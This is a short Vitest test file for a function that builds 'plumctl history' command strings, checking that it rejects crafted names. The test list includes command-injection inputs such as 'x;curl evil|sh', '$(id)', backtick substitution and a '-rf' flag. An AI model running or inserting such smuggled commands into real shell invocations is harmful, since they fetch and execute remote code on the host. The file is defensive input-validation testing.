import { expect, it } from "vitest"
import { historyCommand } from "./commands"

it("names what is asked for, and its namespace where it is not the usual one", () => {
  expect(historyCommand("node", "fra1.web-01")).toBe("plumctl history node/fra1.web-01")
  expect(historyCommand("assignment", "web-1", "team")).toBe("plumctl history assignment/web-1 -n team")
})

it("offers nothing that a crafted address put together", () => {
  for (const name of [
    "x;curl evil|sh",
    "x$(id)",
    "x`id`",
    "x y",
    "x\ny",
    "-rf",
    "X",
    "",
    "x'",
    "a".repeat(300),
  ]) {
    expect(historyCommand("node", name)).toBeUndefined()
    expect(historyCommand("assignment", "web-1", name)).toBeUndefined()
  }
})
